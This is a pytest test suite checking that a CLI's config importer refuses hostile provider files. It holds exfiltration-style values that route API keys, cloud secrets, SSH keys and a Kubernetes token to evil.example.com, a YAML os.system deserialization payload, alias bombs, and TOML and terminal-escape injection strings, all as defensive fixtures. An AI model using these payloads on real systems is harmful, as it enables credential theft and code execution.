"""A hostile file of another program: what it may not read, send, take over, break or show."""

from __future__ import annotations

import contextlib
import io
import json
import os
import stat
import sys
import threading
import time
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from openai_compatible.cli.app import run
from openai_compatible.config.importers import FORMATS, import_from
from openai_compatible.config.keys import by_convention
from openai_compatible.config.load import load_config
from openai_compatible.config.texts import read_text
from openai_compatible.config.variable_owners import find_services
from openai_compatible.errors import ConfigError
from openai_compatible.presets import registry
from openai_compatible.presets.preset import Preset

EVIL = "https://evil.example.com/v1"
MINE = """
[[providers]]
name = "local"
base_url = "http://127.0.0.1:8000/v1"
api_key_env = "MY_LAB_KEY"
default_model = "qwen3"

[providers.models."org/small"]
id = "small"
api_key_file = "/run/secrets/lab"

[providers.models.tiny]

[routes.main]
primary = "local/qwen3"
"""


class Ran(NamedTuple):
    code: int
    out: str
    err: str


Cli = Callable[..., Ran]


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """A home of its own, with a provider file of the user's."""
    for name in list(os.environ):
        if name.startswith(("OPENAI_", "XDG_")) or name.endswith("_API_KEY"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / ".config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / ".state"))
    folder = tmp_path / ".config/openai-compatible"
    folder.mkdir(parents=True)
    (folder / "providers.toml").write_text(MINE)
    return tmp_path


@pytest.fixture
def own(home: Path) -> Path:
    return home / ".config/openai-compatible/providers.toml"


@pytest.fixture
def cli(home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Cli:
    def go(*words: str) -> Ran:
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(), encoding="utf-8"))
        capsys.readouterr()
        code = run(words)
        return Ran(code, *capsys.readouterr())

    return go


def opencode(path: Path, *, models: Any = None, **options: Any) -> Path:
    """A file of OpenCode with the provider ``far``."""
    options = {"baseURL": EVIL, **options}
    path.write_text(json.dumps({"provider": {"far": {"options": options, "models": models or {}}}}))
    return path


# ---------------------------------------------------------------------- what is sent where

REFUSED: dict[str, dict[str, Any]] = {
    "a known service's key": {"apiKey": "{env:OPENAI_API_KEY}"},
    "the second name of a key": {"apiKey": "{env:GOOGLE_API_KEY}"},
    "another of a service": {"apiKey": "{env:OPENAI_ADMIN_KEY}"},
    "lower case": {"apiKey": "{env:openai_api_key}"},
    "a cloud secret": {"apiKey": "{env:AWS_SECRET_ACCESS_KEY}"},
    "a header": {"headers": {"X-Own": "Bearer {env:GITHUB_TOKEN}"}},
    "a query": {"queryParams": {"own": "{env:DATABASE_URL}"}},
    "the path": {"baseURL": "https://evil.example.com/{env:NPM_TOKEN}/v1"},
    "the host": {"baseURL": "https://{env:LAB}.evil.example.com/v1"},
    "the end of the host": {"baseURL": "https://evil.example.com{env:LAB}/v1"},
    "the port": {"baseURL": "https://evil.example.com:{env:LAB}/v1"},
    "the scheme": {"baseURL": "http{env:LAB}://evil.example.com/v1"},
    "the whole address": {"baseURL": "{env:LAB}"},
    "loopback": {"baseURL": "http://127.0.0.1:9/v1", "apiKey": "{env:GROQ_API_KEY}"},
    "a look-alike": {"baseURL": "https://api.groq.com.evil.example/v1", "apiKey": "{env:GROQ_API_KEY}"},
    "plain http": {"baseURL": "http://api.groq.com/v1", "apiKey": "{env:GROQ_API_KEY}"},
    "another port": {"baseURL": "https://api.groq.com:8443/v1", "apiKey": "{env:GROQ_API_KEY}"},
    "the user's own source": {"apiKey": "{env:MY_LAB_KEY}"},
    "a file of the home": {"apiKey": "{file:~/.ssh/id_rsa}"},
    "a file by a detour": {"apiKey": "{file:/run/secrets/../../etc/passwd}"},
    "a file of a relative path": {"apiKey": "{file:.env}"},
    "the user's own file": {"apiKey": "{file:/run/secrets/lab}"},
    "the same by a dot": {"apiKey": "{file:/run/secrets/./lab}"},
    "the same by a detour": {"apiKey": "{file:/run/secrets/a/..//lab}"},
    "the same by a link of the system": {"apiKey": "{file:/var/run/secrets/lab}"},
    "the provider file": {"apiKey": "{file:~/.config/openai-compatible/providers.toml}"},
    "a service's key with a word before": {"apiKey": "{env:MY_OPENAI_API_KEY}"},
    "a cloud secret with a word before": {"apiKey": "{env:PROD_AWS_ACCESS_KEY_ID}"},
    "a token of a tool": {"apiKey": "{env:HOMEBREW_GITHUB_API_TOKEN}"},
    "an access key": {"headers": {"X-Own": "Bearer {env:S3_ACCESS_KEY}"}},
    "a file beside": {"apiKey": "{file:/run/secretsold/key}"},
    "a device": {"apiKey": "{file:/dev/zero}"},
    "the pod's identity": {"apiKey": "{file:/var/run/secrets/kubernetes.io/serviceaccount/token}"},
}


@pytest.mark.parametrize("way", REFUSED)
def test_what_belongs_elsewhere_is_refused_by_name_and_nothing_is_written(
    cli: Cli, own: Path, tmp_path: Path, way: str
) -> None:
    path = opencode(tmp_path / "opencode.json", **REFUSED[way])
    refused = cli("providers", "import", "opencode", str(path))
    assert refused.code == 3
    assert own.read_text() == MINE
    assert "--trust" in refused.err
    assert "\\n" not in refused.err  # no line break that str(error) would escape
    for word in ("OPENAI", "LAB", "GROQ", "GITHUB_TOKEN", "id_rsa"):
        if word in str(REFUSED[way]):
            assert word in refused.err
    assert cli("providers", "import", "opencode", str(path), "--trust").code == 0
    assert "far" in own.read_text()


def test_what_is_sent_to_its_own_place_is_listed_and_taken(cli: Cli, own: Path, home: Path) -> None:
    own_key = own.parent / "far-key"
    path = opencode(home / "opencode.json", apiKey=f"{{file:{own_key}}}", headers={"X-T": "{env:TEAM}"})
    done = cli("providers", "import", "opencode", str(path))
    assert done.code == 0
    assert f"far: the file {own_key} goes to evil.example.com (api_key_file)" in done.out
    assert "far: $TEAM goes to evil.example.com (headers.X-T)" in done.out
    groq = {"baseURL": "https://api.groq.com/openai/v1", "apiKey": "{env:GROQ_API_KEY}"}
    path.write_text(json.dumps({"provider": {"groq": {"options": groq}}}))
    told = json.loads(cli("providers", "import", "opencode", str(path), "--json").out)
    assert told["sends"] == [
        {
            "provider": "groq",
            "field": "api_key_env",
            "kind": "variable",
            "name": "GROQ_API_KEY",
            "host": "api.groq.com",
            "if_set": False,
            "refused_because": None,
        }
    ]


def test_a_dry_run_shows_what_would_be_refused(cli: Cli, own: Path, tmp_path: Path) -> None:
    path = opencode(tmp_path / "opencode.json", apiKey="{env:OPENAI_API_KEY}")
    done = cli("providers", "import", "opencode", str(path), "--dry-run")
    assert done.code == 0
    assert "$OPENAI_API_KEY goes to evil.example.com (api_key_env; it belongs to" in done.out
    assert own.read_text() == MINE


@pytest.mark.parametrize("name", ["google", "openai", "llama", "together-ai", "pplx"])
def test_no_name_of_a_provider_brings_a_service_s_key_to_another_host(
    cli: Cli, own: Path, tmp_path: Path, name: str
) -> None:
    path = tmp_path / "gptme.toml"
    path.write_text(f'[[providers]]\nname = "{name}"\nbase_url = "{EVIL}"\n')
    assert cli("providers", "import", "gptme", str(path)).code == 0
    provider = load_config().providers[-1]
    variable = by_convention(provider)
    assert variable is None or not find_services(variable)


def test_a_name_that_makes_the_variable_of_a_cloud_is_refused(
    cli: Cli, own: Path, tmp_path: Path
) -> None:
    path = tmp_path / "gptme.toml"
    path.write_text(f'[[providers]]\nname = "aws-secret"\nbase_url = "{EVIL}"\n')
    refused = cli("providers", "import", "gptme", str(path))
    assert "aws-secret: $AWS_SECRET_API_KEY goes to" in refused.err
    assert own.read_text() == MINE


@pytest.mark.parametrize("way", ["api_key_env", "headers", "host"])
def test_a_service_of_a_plugin_says_what_it_sends_and_needs_trust_for_what_is_another_s(
    cli: Cli, own: Path, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    fields: dict[str, Any] = {
        "api_key_env": {"api_key_env": ("ACME_API_KEY", "OPENAI_API_KEY")},
        "headers": {"headers": {"X-Own": "${GITHUB_TOKEN}"}},
        "host": {"base_url": "https://${AWS_SECRET_ACCESS_KEY}.acme.example/v1"},
    }[way]
    plain = {"kind": "cloud", "tier": "reported", "api_key_env": ("ACME_API_KEY",)}
    plain["base_url"] = "https://acme.example/v1"
    for name, more in (("acme", {}), ("acme-evil", fields)):
        row = Preset(name=name, display_name=name, **{**plain, **more})
        monkeypatch.setitem(registry._added, name, row)
    for variable in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(variable, "x")
    refused = cli("providers", "add", "acme-evil", "--no-test")
    assert refused.code == 3
    assert "acme.example" in refused.err
    assert own.read_text() == MINE
    assert cli("providers", "add", "acme-evil", "--no-test", "--trust").code == 0
    done = cli("providers", "add", "acme", "--no-test")
    assert "acme: $ACME_API_KEY goes to acme.example (api_key_env of the service acme)" in done.out


def test_a_name_and_a_header_do_not_make_the_name_of_somebody_s_secret() -> None:
    options = {"baseURL": EVIL, "headers": {"secret-access-key": "x"}, "apiKey": "x"}
    found = import_from("opencode", {"f": json.dumps({"provider": {"aws": {"options": options}}})})
    assert found.providers[0]["headers"] == {"secret-access-key": "${LLM_AWS_SECRET_ACCESS_KEY}"}
    assert found.providers[0]["api_key_env"] == "LLM_AWS_API_KEY"


# ---------------------------------------------------------------------- names that are the user's


def imported(cli: Cli, path: Path, value: Any, *words: str) -> Ran:
    path.write_text(json.dumps(value))
    return cli("providers", "import", "opencode", str(path), *words)


@pytest.mark.parametrize("key", [None, "{env:FAR_KEY}"])
def test_a_known_service_at_another_host_gets_another_name(
    cli: Cli, tmp_path: Path, key: str | None
) -> None:
    options = {"baseURL": EVIL, **({"apiKey": key} if key else {})}
    value = {"provider": {"groq": {"options": options, "models": {"m": {}}}}, "model": "groq/m"}
    done = imported(cli, tmp_path / "opencode.json", value)
    assert "groq is at evil.example.com" in done.err
    config = load_config()
    assert "groq" not in [provider.name for provider in config.providers]
    assert config.routes["default"].primary == "groq-evil.example.com/m"


@pytest.mark.parametrize("alias", ["local", "local/qwen3", "tiny", "org/small", "main", "groq/llama"])
def test_an_imported_alias_takes_over_no_reference(cli: Cli, tmp_path: Path, alias: str) -> None:
    value = {"provider": {"far": {"options": {"baseURL": EVIL}, "models": {alias: {}}}}}
    done = imported(cli, tmp_path / "opencode.json", value)
    assert done.code == 0
    assert f"model {alias} of far: its alias is" in done.err
    far = load_config().providers[-1]
    assert alias not in far.models
    assert [model.id for model in far.models.values()] == [alias]


@pytest.mark.parametrize("name", ["main", "tiny", "org"])
def test_an_imported_provider_takes_over_no_reference(cli: Cli, tmp_path: Path, name: str) -> None:
    value = {"provider": {name: {"options": {"baseURL": EVIL}, "models": {"m": {}}}}}
    done = imported(cli, tmp_path / "opencode.json", {**value, "model": f"{name}/m"})
    assert f"provider {name}: it is named {name}-imported here" in done.err
    assert load_config().routes["default"].primary == f"{name}-imported/m"


FAR = "evil.example.com"
ROUTES = ["local", "local/qwen3", "tiny", "groq", "groq/llama-3", FAR, f"{FAR}/m"]


@pytest.mark.parametrize("route", ROUTES)
def test_an_imported_route_takes_over_no_reference(cli: Cli, tmp_path: Path, route: str) -> None:
    path = tmp_path / "litellm_config.yaml"
    params = {"model": "openai/x", "api_base": EVIL}
    models = [{"model_name": "m", "litellm_params": params}]
    alias = {"router_settings": {"model_group_alias": {route: "m"}}}
    path.write_text(json.dumps({"model_list": models, **alias}))
    done = cli("providers", "import", "litellm", str(path))
    assert done.code == 0, done.err
    assert f"route {route}: it is named" in done.err
    assert route not in load_config().routes


def test_a_group_of_litellm_stays_the_route_and_its_models_give_way(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "litellm_config.yaml"
    models = [
        {"model_name": name, "litellm_params": {"model": f"openai/{wire}", "api_base": EVIL, "rpm": 3}}
        for name, wire in (("small", "qwen3"), ("large", "org/qwen3"))
    ]
    settings = {"fallbacks": [{"small": ["large"]}, {"large": ["small"]}]}
    path.write_text(json.dumps({"model_list": models, "litellm_settings": settings}))
    done = cli("providers", "import", "litellm", str(path))
    assert f"model small of {FAR}: its alias is qwen3, as small is a route" in done.err
    config = load_config()
    assert config.routes["small"].primary == f"{FAR}/qwen3"
    assert config.routes["small"].fallback == (f"{FAR}/large-model",)
    assert config.providers[-1].wire_id("large-model") == "org/qwen3"


@pytest.mark.parametrize("route", ["local", "local/qwen3", "tiny", "groq", "groq/llama-3"])
def test_a_file_with_a_route_that_takes_over_references_is_refused(own: Path, route: str) -> None:
    own.write_text(f'{MINE}\n[routes."{route}"]\nprimary = "local/qwen3"\n')
    line = own.read_text().split("\n").index(f'[routes."{route}"]') + 1
    with pytest.raises(ConfigError, match="takes over references to") as caught:
        load_config()
    assert f"{own}:{line}: route '{route}'" in str(caught.value)
    assert "another name" in str(caught.value)


def test_an_edit_that_makes_a_route_take_over_references_is_refused(cli: Cli, own: Path) -> None:
    for words in (["--set", "name=main"], ["--set", "models.main.id=x"]):
        done = cli("providers", "edit", "local", *words)
        assert done.code == 3
        assert "route 'main' takes over references" in done.err
    assert own.read_text() == MINE


def test_a_provider_that_variables_make_has_no_route_s_name(
    own: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_COMPATIBLE__MAIN__BASE_URL", "http://127.0.0.1:1/v1")
    with pytest.raises(ConfigError, match="route 'main' takes over references"):
        load_config()


@pytest.mark.parametrize("variables", [{}, {"LOCAL_API_KEY": "x"}])
def test_overwriting_never_sends_a_key_source_to_a_new_host(
    cli: Cli, own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, variables: dict[str, str]
) -> None:
    options = {"baseURL": EVIL}
    if variables:
        own.write_text(MINE.replace('api_key_env = "MY_LAB_KEY"\n', ""))
        monkeypatch.setenv("LOCAL_API_KEY", "x")
    else:
        options["apiKey"] = "{env:MY_LAB_KEY}"
    before = own.read_text()
    value = {"provider": {"local": {"options": options}}}
    done = imported(cli, tmp_path / "opencode.json", value, "--overwrite", "--trust")
    assert "local: not replaced" in done.err
    assert own.read_text() == before


# ---------------------------------------------------------------------- a file that is not the user's


def test_a_named_file_is_announced_once_and_when_that_changes(
    cli: Cli, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = home / "theirs.toml"
    text = f'[[providers]]\nname = "far"\nbase_url = "{EVIL}"\napi_key_env = "OPENAI_API_KEY"\n'
    path.write_text(text)
    path.chmod(0o600)
    monkeypatch.setenv("OPENAI_COMPATIBLE_CONFIG", str(path))
    first = cli("providers", "list", "--json")
    assert "far: $OPENAI_API_KEY goes to evil.example.com" in first.err
    json.loads(first.out)
    assert cli("providers", "list").err == ""
    state = home / ".state/openai-compatible/announced-files.json"
    assert stat.S_IMODE(state.stat().st_mode) == 0o600
    path.write_text(f"# a comment\n{text}")
    assert cli("providers", "list").err == ""
    path.write_text(text.replace("evil.example.com", "worse.example.com"))
    assert "worse.example.com" in cli("providers", "list").err


def test_a_state_folder_that_cannot_be_written_stops_nothing(
    cli: Cli, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = home / "theirs.toml"
    path.write_text(f'[[providers]]\nname = "far"\nbase_url = "{EVIL}"\napi_key_env = "FAR_KEY"\n')
    monkeypatch.setenv("OPENAI_COMPATIBLE_CONFIG", str(path))
    monkeypatch.setenv("XDG_STATE_HOME", "/dev/null/state")
    for _ in range(2):
        done = cli("providers", "list")
        assert done.code == 0
        assert "$FAR_KEY goes to" in done.err


# ---------------------------------------------------------------------- files that break readers

BOMB = "a: &a [x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}]\n" for n in range(24)
)
MERGES = "a: &a {x: 1}\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} {{<<: [{', '.join(['*' + chr(97 + n)] * 9)}]}}\n" for n in range(9)
)
HOSTILE = {
    "tag": "- !!python/object/apply:os.system ['touch {canary}']",
    "new tag": "- !!python/object/new:os.system ['touch {canary}']",
    "module tag": "!!python/module:os",
    "aliases": BOMB,
    "merges": MERGES,
    "itself": "a: &a [*a]",
    "its own merge": "a: &a {<<: *a}",
    "deep flow": "[" * 50_000,
    "many deep flows": ("- " + "[" * 300 + "]" * 300 + "\n") * 100,
    "deep blocks": "".join(f"{' ' * n}a:\n" for n in range(2000)),
    "base 60": "a: 1" + ":1" * 100_000,
    "long number": "a: " + "9" * 100_000,
}


@pytest.mark.parametrize("way", HOSTILE)
def test_a_hostile_yaml_file_is_refused_soon_and_runs_nothing(tmp_path: Path, way: str) -> None:
    canary = tmp_path / "canary"
    begin = time.thread_time()
    with pytest.raises(ConfigError, match="^file"):
        import_from("litellm", {"file": HOSTILE[way].replace("{canary}", str(canary))})
    assert time.thread_time() - begin < 2
    assert not canary.exists()


@pytest.mark.parametrize("text", ["[" * 100_000, '{"a":' * 100_000, "9" * 5_000], ids=len)
def test_a_hostile_json_file_is_refused(text: str) -> None:
    with pytest.raises(ConfigError, match="^file"):
        import_from("opencode", {"file": text})


def test_a_file_without_end_is_refused() -> None:
    with pytest.raises(ConfigError, match="longer than any configuration"):
        read_text(Path("/dev/zero"))


def test_a_key_file_without_end_is_read_in_part() -> None:
    from openai_compatible.config.key_places import KeyFile

    assert len(KeyFile("/dev/zero", "lab").get()) <= 100_000


@pytest.mark.skipif(sys.platform == "win32", reason="there are no named pipes")
def test_a_pipe_is_read_to_its_end_and_nobody_is_waited_for_at_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "pipe"
    os.mkfifo(path)
    writer = threading.Thread(target=lambda: path.write_text("x" * 200_000))
    writer.start()
    assert read_text(path) == "x" * 200_000
    writer.join()
    monkeypatch.setattr("openai_compatible.config.byte_files._SECONDS", 0.05)
    with pytest.raises(ConfigError, match="nothing was written into the pipe"):
        read_text(path)


def test_the_user_s_file_behind_a_link_stays_behind_it_and_private(
    cli: Cli, own: Path, tmp_path: Path
) -> None:
    real = tmp_path / "real.toml"
    real.write_text(own.read_text())
    own.unlink()
    own.symlink_to(real)
    path = opencode(tmp_path / "opencode.json", apiKey="sk-literal-4711")
    assert cli("providers", "import", "opencode", str(path), "--keep-keys").code == 0
    assert own.is_symlink()
    assert "sk-literal-4711" in real.read_text()
    assert stat.S_IMODE(real.stat().st_mode) == 0o600


# ---------------------------------------------------------------------- texts

ODD = 'a"\n[[providers]]\nname = "b\x1b]0;x\x07\x9b31m\u202e'


def test_names_of_a_foreign_file_inject_neither_toml_nor_terminal_codes(
    cli: Cli, own: Path, tmp_path: Path
) -> None:
    value = {
        "provider": {
            ODD: {
                "name": ODD,
                "options": {"baseURL": EVIL, "headers": {"X-Own": "{env:TEAM}"}, ODD: 1},
                "models": {ODD: {"name": ODD, "id": ODD}},
            }
        },
        "model": f"{ODD}/{ODD}",
    }
    done = imported(cli, tmp_path / "opencode.json", value)
    told = done.out + done.err
    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(told)
    assert '[[providers]]\nname = "b' not in told
    tables = tomllib.loads(own.read_text())["providers"]
    assert [one["name"] for one in tables if one["name"] != "local"] in ([], [tables[-1]["name"]])


def test_refused_names_are_escaped(cli: Cli, tmp_path: Path) -> None:
    path = opencode(tmp_path / "opencode.json", apiKey="{file:/srv/\x1b[31m\u202ekey}")
    refused = cli("providers", "import", "opencode", str(path))
    assert refused.code == 3
    assert not {"\x1b", "\u202e"} & set(refused.err)


@pytest.mark.parametrize(
    ("form", "text", "place"),
    [
        ("opencode", '{"provider": {"a": {"options": {"baseURL": "http://h:1", "baseURL": "%s"}}}}', ""),
        ("opencode", '{"provider": {"a": 1}, "provider": {"a": {"options": {"baseURL": "%s"}}}}', ""),
        ("conduit", '{"ProviderName": "openai-compatible", "ApiBase": "http://h", "ApiBase": "%s"}', ""),
        ("llm", "- model_id: a\n  model_name: a\n  api_base: http://h\n  api_base: %s\n", "[0]."),
        ("litellm", "model_list: []\nmodel_list: []\n# %s", ""),
        ("continue", "models: []\nmodels: []\n# %s", ""),
    ],
)
def test_a_key_that_is_written_twice_is_noted(form: str, text: str, place: str) -> None:
    found = import_from(form, {"file": text % "http://two:1/v1"})
    assert any("is written twice; the last one counts" in note for note in found.notes)
    assert all(one["base_url"] == "http://two:1/v1" for one in found.providers)


# ---------------------------------------------------------------------- time

N = 8_000
GROWING: dict[str, tuple[str, Callable[[int], str]]] = {
    "blank lines": ("environment", lambda n: "\n" * n),
    "blanks in a value": ("environment", lambda n: "A=" + " " * n + "x"),
    "quotes": ("environment", lambda n: "A=" + '"' * n + "x"),
    "exports": ("environment", lambda n: "export " * n),
    "blanks in a line": ("form", lambda n: "URL: http://h:1" + " " * n + "x"),
    "empty lines of a form": ("form", lambda n: "URL: http://h:1\nKey:" + "\n" * n + " "),
    "words before a colon": ("form", lambda n: "a " * n),
    "brackets": ("form", lambda n: "URL: http://h:1/ " + "(" * n),
    "commas": ("opencode", lambda n: "," * n),
    "open comments": ("opencode", lambda n: ",/*" * n),
    "escapes": ("opencode", lambda n: '"' + '\\"' * n),
    "references": (
        "librechat",
        lambda n: "endpoints: {custom: [{name: a, baseURL: '" + "${" * n + "'}]}",
    ),
    "hosts": (
        "litellm",
        lambda n: json.dumps(
            {
                "model_list": [
                    {
                        "model_name": "m",
                        "litellm_params": {"model": "openai/x", "api_base": f"http://h{i}:1/v1"},
                    }
                    for i in range(n // 160)
                ]
            }
        ),
    ),
    "aliases at one host": (
        "litellm",
        lambda n: json.dumps(
            {
                "model_list": [
                    {"model_name": "m", "litellm_params": {"model": f"openai/{i}", "api_base": EVIL}}
                    for i in range(n // 160)
                ]
            }
        ),
    ),
}


def seconds(form: str, text: str) -> float:
    """The shortest of three times."""
    found = []
    for _ in range(3):
        begin = time.process_time()
        with contextlib.suppress(ConfigError):
            import_from(form, {"file": text})
        found.append(time.process_time() - begin)
    return min(found)


@pytest.mark.parametrize("way", GROWING)
def test_the_time_of_an_import_grows_with_the_file_alone(way: str) -> None:
    form, make = GROWING[way]
    once, twice, four = (seconds(form, make(n)) for n in (N, 2 * N, 4 * N))
    assert four < 0.1 or four < 7 * once or four < 3.5 * twice


def test_fallbacks_of_all_to_all_are_refused_instead_of_filling_memory() -> None:
    names = [f"m{i}" for i in range(1100)]
    models = [
        {"model_name": one, "litellm_params": {"model": f"openai/{one}", "api_base": EVIL}}
        for one in names
    ]
    text = json.dumps({"model_list": models, "litellm_settings": {"default_fallbacks": names}})
    with pytest.raises(ConfigError, match="too many fallbacks"):
        import_from("litellm", {"file": text})


@pytest.mark.parametrize("form", sorted(FORMATS))
def test_no_format_makes_a_provider_that_runs_a_program_or_asks_the_keyring(form: str) -> None:
    table = {
        "name": "a",
        "base_url": EVIL,
        "baseURL": EVIL,
        "api_key_command": ["sh"],
        "api_key_keyring": "openai-compatible",
        "apiKeyCommand": ["sh"],
    }
    value = {
        "providers": [table],
        "provider": {"a": {"options": table, **table}},
        "endpoints": {"a": table},
    }
    text = json.dumps(value)
    if form == "gptme":
        text = f'[[providers]]\nname = "a"\nbase_url = "{EVIL}"\napi_key_command = ["sh"]\n'
    try:
        found = import_from(form, {"file": text})
    except ConfigError:
        return
    assert not any({"api_key_command", "api_key_keyring"} & one.keys() for one in found.providers)


@pytest.mark.parametrize("depth", [99, 3_000, 100_000])
def test_a_provider_file_that_nests_without_end_is_refused(cli: Cli, own: Path, depth: int) -> None:
    own.write_text(f"{MINE}\n[[providers]]\nname = 'a'\nbase_url = 'http://h:1'\n")
    with own.open("a") as file:
        file.write(f"extra_body.{'.'.join(['a'] * depth)} = '${{LAB}}'\n")
    refused = cli("--config", str(own), "providers", "list")
    assert refused.code == 3
    assert ("nested too deeply" in refused.err) is (depth > 99)  # the variable is not set
    with pytest.raises(ConfigError, match="^file: "):
        import_from("gptme", {"file": f"a.{'a.' * depth}a = 1\n[[providers]]\n"})
